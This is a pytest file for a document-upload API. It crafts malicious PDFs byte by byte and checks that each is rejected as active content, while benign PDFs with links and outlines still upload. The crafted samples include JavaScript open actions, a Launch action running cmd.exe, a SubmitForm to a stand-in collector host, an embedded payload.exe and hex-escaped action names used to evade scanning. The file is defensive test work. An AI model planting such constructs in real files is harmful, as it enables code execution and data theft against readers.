"""A hostile applicant uploads PDFs that carry active content, hidden wherever a PDF reader might
find it: every one is refused with 415 ``active-content``, and nothing is stored (no document is
listed, no blob is left). Benign PDFs with links, destinations and outlines still upload.

Each file is crafted here, byte by byte (``crafted_pdfs``) or with pypdf's writer.
"""

import io
from collections.abc import Callable
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from httpx2 import Response
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from infra.storage.local import LocalBlobStore
from tests.api.intake import World, assert_problem, build_world
from tests.api.uploads import PDF, KiB, blob_files
from tests.security.crafted_pdfs import (
    BASE,
    CATALOG,
    build,
    javascript_action,
    objects,
    update,
    with_entries,
)

MARKER = b"SECRET-MARKER-7f3a"  # in every hidden payload; no answer may echo it
REQUIRED = [
    {"kind": "proposal", "title": "Proposal", "content_types": [PDF], "max_bytes": 8 * 1024 * KiB}
]
RECT = b"/Rect [72 72 144 96]"
JS = javascript_action(b"app.alert('" + MARKER + b"');")


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link " + RECT + b" /A " + action + b" >>"


def embedded_file_stream() -> bytes:
    data = b"MZ " + MARKER
    return (
        b"<< /Type /EmbeddedFile /Subtype /application#2Foctet-stream /Length %d >>\nstream\n"
        % len(data)
        + data
        + b"\nendstream"
    )


FILESPEC = b"<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 10 0 R >> >>"


def _open_action() -> bytes:
    return build(objects(catalog=b"/OpenAction 4 0 R") | {4: JS})


def _page_trigger() -> bytes:
    return build(objects(page=b"/AA << /O 4 0 R >>") | {4: JS})


def _annotation_action() -> bytes:
    return build(objects(page=b"/Annots [5 0 R]") | {4: JS, 5: link(b"4 0 R")})


def _form_field_trigger() -> bytes:
    field = (
        b"<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget "
        + RECT
        + b" /P 3 0 R /AA << /K 4 0 R >> >>"
    )
    return build(
        objects(catalog=b"/AcroForm << /Fields [6 0 R] >>", page=b"/Annots [6 0 R]")
        | {4: JS, 6: field}
    )


def _names_tree() -> bytes:
    return build(
        objects(catalog=b"/Names << /JavaScript 7 0 R >>")
        | {4: JS, 7: b"<< /Names [(init) 4 0 R] >>"}
    )


def _object_stream() -> bytes:
    # The script, the catalog pointing at it and the page are only inside a compressed stream.
    bodies = objects(catalog=b"/OpenAction 4 0 R") | {4: JS}
    return build(bodies, in_object_stream=frozenset({CATALOG, 3, 4}))


def _object_stream_unreferenced() -> bytes:
    return build(objects() | {4: JS}, in_object_stream=frozenset({4}))


def _update_adds_open_action() -> bytes:
    first = build(objects())
    return update(first, {CATALOG: with_entries(BASE[CATALOG], b"/OpenAction 4 0 R"), 4: JS})


def _earlier_revision_only() -> bytes:
    # Revision 1 runs a script at open; revision 2 drops it from the catalog and frees the
    # object, but its bytes are still in the file (a reader may show the earlier revision).
    first = build(objects(catalog=b"/OpenAction 4 0 R") | {4: JS})
    return update(first, {CATALOG: BASE[CATALOG]}, freed=frozenset({4}))


def _shared_object() -> bytes:
    # One object reached from two places: listed as a form field and used as a link's action.
    return build(
        objects(catalog=b"/AcroForm << /Fields [4 0 R] >>", page=b"/Annots [5 0 R]")
        | {4: JS, 5: link(b"4 0 R")}
    )


def _launch() -> bytes:
    action = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c " + MARKER + b") >> >>"
    return build(objects(page=b"/Annots [5 0 R]") | {5: link(action)})


def _submit_form() -> bytes:
    action = (
        b"<< /S /SubmitForm /F << /FS /URL /F (https://collector.example/" + MARKER + b") >> >>"
    )
    return build(objects(page=b"/Annots [5 0 R]") | {5: link(action)})


def _import_data() -> bytes:
    return build(objects(catalog=b"/OpenAction << /S /ImportData /F (data.fdf) >>"))


def _rich_media_annotation() -> bytes:
    annotation = (
        b"<< /Type /Annot /Subtype /RichMedia "
        + RECT
        + b" /RichMediaContent << /Assets << /Names [] >> /Configurations [] >> >>"
    )
    return build(objects(page=b"/Annots [8 0 R]") | {8: annotation})


def _rich_media_action() -> bytes:
    action = b"<< /S /RichMediaExecute /TA 3 0 R /CMD << /C (play) >> >>"
    return build(objects(page=b"/Annots [5 0 R]") | {5: link(action)})


def _embedded_files_tree() -> bytes:
    return build(
        objects(catalog=b"/Names << /EmbeddedFiles << /Names [(payload.exe) 9 0 R] >> >>")
        | {9: FILESPEC, 10: embedded_file_stream()}
    )


def _file_attachment_annotation() -> bytes:
    annotation = b"<< /Type /Annot /Subtype /FileAttachment " + RECT + b" /FS 9 0 R >>"
    return build(
        objects(page=b"/Annots [11 0 R]")
        | {9: FILESPEC, 10: embedded_file_stream(), 11: annotation}
    )


def _next_chain() -> bytes:
    return build(
        objects(catalog=b"/OpenAction 4 0 R")
        | {
            4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
            5: b"<< /S /URI /URI (https://example.org/) /Next [6 0 R] >>",
            6: JS,
        }
    )


def _hex_escaped_javascript() -> bytes:
    action = b"<< /S /J#61va#53cript /J#53 (app.alert('" + MARKER + b"');) >>"
    return build(objects(catalog=b"/OpenAction " + action))


def _hex_escaped_launch() -> bytes:
    return build(objects(page=b"/Annots [5 0 R]") | {5: link(b"<< /S /#4C#61unch /F (a.exe) >>")})


def _xfa_form() -> bytes:
    xml = (
        b"<xdp:xdp><script contentType='application/x-javascript'>"
        + MARKER
        + b"</script></xdp:xdp>"
    )
    stream = b"<< /Length %d >>\nstream\n" % len(xml) + xml + b"\nendstream"
    return build(objects(catalog=b"/AcroForm << /Fields [] /XFA 12 0 R >>") | {12: stream})


def _action_in_a_stream_dictionary() -> bytes:
    # An action dictionary that is a stream's dictionary.
    stream = b"<< /S /Launch /F (cmd.exe) /Length 0 >>\nstream\n\nendstream"
    return build(objects(catalog=b"/OpenAction 4 0 R") | {4: stream})


CASES: dict[str, tuple[Callable[[], bytes], str]] = {
    "open-action-javascript": (_open_action, "JavaScript"),
    "page-trigger-javascript": (_page_trigger, "JavaScript"),
    "annotation-action-javascript": (_annotation_action, "JavaScript"),
    "form-field-trigger-javascript": (_form_field_trigger, "JavaScript"),
    "names-tree-javascript": (_names_tree, "JavaScript"),
    "object-stream-javascript": (_object_stream, "JavaScript"),
    "object-stream-unreferenced-javascript": (_object_stream_unreferenced, "JavaScript"),
    "incremental-update-adds-open-action": (_update_adds_open_action, "JavaScript"),
    "earlier-revision-only-javascript": (_earlier_revision_only, "JavaScript"),
    "shared-object-javascript": (_shared_object, "JavaScript"),
    "launch": (_launch, "Launch"),
    "submit-form": (_submit_form, "SubmitForm"),
    "import-data": (_import_data, "ImportData"),
    "rich-media-annotation": (_rich_media_annotation, "RichMedia"),
    "rich-media-action": (_rich_media_action, "RichMedia"),
    "embedded-files-name-tree": (_embedded_files_tree, "embedded file"),
    "file-attachment-annotation": (_file_attachment_annotation, "embedded file"),
    "next-chain-third-action": (_next_chain, "JavaScript"),
    "hex-escaped-javascript": (_hex_escaped_javascript, "JavaScript"),
    "hex-escaped-launch": (_hex_escaped_launch, "Launch"),
    "xfa-form": (_xfa_form, "XFA"),
    "action-in-a-stream-dictionary": (_action_in_a_stream_dictionary, "Launch"),
}


@pytest.fixture
def world(app: FastAPI, client: TestClient) -> World:
    return build_world(app, required_documents=REQUIRED)


def documents_path(world: World) -> str:
    return f"/api/v1/applications/{world.application.id}/documents"


def store_root(app: FastAPI) -> Path:
    store = app.state.blob_store
    assert isinstance(store, LocalBlobStore)
    return store.root


def upload(client: TestClient, world: World, data: bytes) -> Response:
    return client.post(
        documents_path(world),
        data={"kind": "proposal"},
        files={"file": ("proposal.pdf", data, PDF)},
        headers=world.applicant.headers,
    )


@pytest.mark.parametrize("case", list(CASES))
def test_active_content_anywhere_is_refused_and_nothing_is_stored(
    app: FastAPI, client: TestClient, world: World, case: str
) -> None:
    make, found = CASES[case]
    before = blob_files(store_root(app))
    response = upload(client, world, make())
    body = assert_problem(response, 415, "active-content")
    assert found in body["detail"]
    assert MARKER.decode() not in response.text
    listed = client.get(documents_path(world), headers=world.applicant.headers)
    assert listed.status_code == 200
    assert listed.json()["items"] == []
    assert blob_files(store_root(app)) == before


def _benign_raw(*, in_object_stream: frozenset[int] = frozenset({6, 7, 8})) -> bytes:
    outline = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>"
    item = b"<< /Title (Budget) /Parent 6 0 R /Dest [3 0 R /XYZ 0 792 0] /A 8 0 R >>"
    return build(
        objects(
            catalog=b"/OpenAction [3 0 R /Fit] /Outlines 6 0 R /PageMode /UseOutlines",
            page=b"/Annots [4 0 R 5 0 R] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>",
        )
        | {
            4: link(b"<< /S /URI /URI (https://example.org/proposal) >>"),
            5: link(b"<< /S /GoTo /D [3 0 R /FitH 700] /Next << /S /Named /N /NextPage >> >>"),
            6: outline,
            7: item,
            8: b"<< /S /GoTo /D [3 0 R /Fit] >>",
        },
        in_object_stream=in_object_stream,
    )


def _benign_updated() -> bytes:
    # An incremental update that adds a link (as a signature workflow or an editor would).
    first = _benign_raw(in_object_stream=frozenset())
    page = with_entries(BASE[3], b"/Annots [9 0 R]")
    return update(first, {3: page, 9: link(b"<< /S /URI /URI (https://example.org/) >>")})


def _benign_written() -> bytes:
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=595, height=842)
    writer.add_outline_item(title="Summary", page_number=0)
    writer.add_outline_item(title="Budget", page_number=2)
    rect = ArrayObject([FloatObject(10), FloatObject(10), FloatObject(100), FloatObject(40)])
    uri = DictionaryObject(
        {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): TextStringObject("https://example.org/"),
        }
    )
    for page in (0, 1):
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): rect,
                NameObject("/A"): uri,
            }
        )
        writer.add_annotation(page_number=page, annotation=annotation)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "make", [_benign_raw, _benign_updated, _benign_written], ids=["raw", "updated", "written"]
)
def test_links_destinations_and_outlines_still_upload(
    client: TestClient, world: World, make: Callable[[], bytes]
) -> None:
    response = upload(client, world, make())
    assert response.status_code == 201, response.text
    listed = client.get(documents_path(world), headers=world.applicant.headers).json()["items"]
    assert [d["id"] for d in listed] == [response.json()["id"]]


@pytest.mark.parametrize("where", ["start", "end"])
def test_active_content_in_a_large_upload_is_refused_and_nothing_is_stored(
    app: FastAPI, client: TestClient, world: World, where: str
) -> None:
    """Scanned as it streams in (several batches): found early, the upload stops there."""
    padding = b"<< /Length %d >>\nstream\n" % (3 * 1024 * 1024) + b"%" * (3 * 1024 * 1024)
    padding += b"\nendstream"
    hidden = {4: JS} if where == "start" else {99: JS}
    data = build(objects() | hidden | {50: padding})
    assert (data.index(MARKER) < 1024 * 1024) == (where == "start")
    before = blob_files(store_root(app))
    response = client.post(
        documents_path(world),
        data={"kind": "proposal"},
        files={"file": ("proposal.pdf", data, PDF)},
        headers=world.applicant.headers,
    )
    assert_problem(response, 415, "active-content")
    assert client.get(documents_path(world), headers=world.applicant.headers).json()["items"] == []
    assert blob_files(store_root(app)) == before
